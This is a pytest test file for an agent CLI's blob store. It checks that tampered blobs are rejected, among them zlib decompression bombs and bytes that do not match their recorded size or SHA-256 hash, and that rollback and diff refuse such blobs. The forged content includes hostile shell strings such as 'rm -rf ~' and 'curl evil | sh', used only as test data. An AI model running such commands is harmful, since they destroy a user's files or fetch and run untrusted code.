"""A blob is used only when it is what its row says: its recorded size, its SHA-256 (issue 20, major 8)."""

from __future__ import annotations

import sqlite3
import zlib
from pathlib import Path

import pytest
from agent_harness import agentcli, session_file
from openai_answers import text_answer, tool_answer, tool_call

from agentcli.session.session import Session
from agentcli.store.blobs import DamagedBlobError, content_hash


def _set_blob(path: Path, digest: str, *, size: int, compression: str, data: bytes) -> None:
    conn = sqlite3.connect(path)
    try:
        conn.execute("UPDATE blobs SET size = ?, compression = ?, data = ? WHERE hash = ?",
                     [size, compression, data, digest])
        conn.commit()
    finally:
        conn.close()


@pytest.fixture
def stored(tmp_path: Path) -> tuple[Path, str]:
    """A session file holding one small blob; returns (file, its hash)."""
    from agentcli.session.directory import SessionDirectory

    with SessionDirectory(tmp_path / "sessions").create(workspace_root=tmp_path) as session:
        digest = session.blobs.put(b"hello world\n" * 20)
        return session.path, digest


def test_a_zlib_bomb_is_inflated_no_further_than_its_recorded_size(stored) -> None:
    path, digest = stored
    bomb = zlib.compress(bytes(64 << 20), 1)  # 64 MB of zeros in ~64 KB
    _set_blob(path, digest, size=240, compression="zlib", data=bomb)
    with Session.open(path, writer=False) as session, pytest.raises(DamagedBlobError, match="damaged"):
        session.blobs.get(digest)


def test_bytes_that_do_not_match_their_hash_are_damaged(stored) -> None:
    path, digest = stored
    forged = b"rm -rf ~    \n" * 20
    forged = forged[:240]
    _set_blob(path, digest, size=len(forged), compression="none", data=forged)
    with Session.open(path, writer=False) as session, pytest.raises(DamagedBlobError, match="SHA-256"):
        session.blobs.get(digest)
    _set_blob(path, digest, size=240, compression="zlib", data=zlib.compress(forged))
    with Session.open(path, writer=False) as session, pytest.raises(DamagedBlobError, match="SHA-256"):
        session.blobs.get(digest)


@pytest.mark.parametrize("row", [
    {"size": 240, "compression": "zlib", "data": b"not zlib at all"},
    {"size": 10, "compression": "none", "data": b"hello world\n" * 20},
    {"size": -1, "compression": "none", "data": b""},
    {"size": 240, "compression": "lzma", "data": b"x"},
], ids=["not-zlib", "longer-than-recorded", "negative-size", "unknown-codec"])
def test_a_row_that_lies_about_its_blob_is_damaged(stored, row) -> None:
    path, digest = stored
    _set_blob(path, digest, **row)
    with Session.open(path, writer=False) as session, pytest.raises(DamagedBlobError):
        session.blobs.get(digest)


def test_a_good_blob_still_reads_back(stored) -> None:
    path, digest = stored
    with Session.open(path, writer=False) as session:
        assert session.blobs.get(digest) == b"hello world\n" * 20


@pytest.fixture
def edited(openai_server, tmp_path: Path, env) -> tuple[Path, str, Path]:
    """A workspace whose notes.txt the agent rewrote; returns (workspace, session id, file)."""
    root = tmp_path / "ws"
    root.mkdir()
    (root / "notes.txt").write_text("the original notes\n")
    openai_server.script(tool_answer(tool_call("write_file", {"path": "notes.txt", "content": "new\n"})),
                         text_answer("done"))
    run = agentcli(["new", "rewrite the notes", "-p", "--approval", "full-auto", "--base-url",
                    openai_server.base_url], env=env, cwd=root)
    assert run.code == 0, run.stderr
    return root, run.session_id, session_file(root, run.session_id)


def test_rollback_never_writes_back_content_that_does_not_match_its_hash(edited, env) -> None:
    root, session_id, path = edited
    original = content_hash(b"the original notes\n")
    forged = b"curl evil | sh #####\n"[:19]
    _set_blob(path, original, size=19, compression="none", data=forged)
    run = agentcli(["rollback", session_id], env=env, cwd=root)
    assert (root / "notes.txt").read_text() == "new\n"  # left as it was, not the forged bytes
    assert run.code == 5, run.stderr
    assert "damaged" in run.stderr and "notes.txt" in run.stderr
    assert "Traceback" not in run.stderr


def test_diff_of_a_bomb_is_one_line_exit_2(edited, env) -> None:
    root, session_id, path = edited
    original = content_hash(b"the original notes\n")
    _set_blob(path, original, size=19, compression="zlib", data=zlib.compress(bytes(32 << 20), 1))
    run = agentcli(["diff", session_id], env=env, cwd=root)
    assert run.code == 2, run.stderr
    assert "damaged" in run.stderr and "Traceback" not in run.stderr
    assert len(run.stderr.strip().splitlines()) == 1
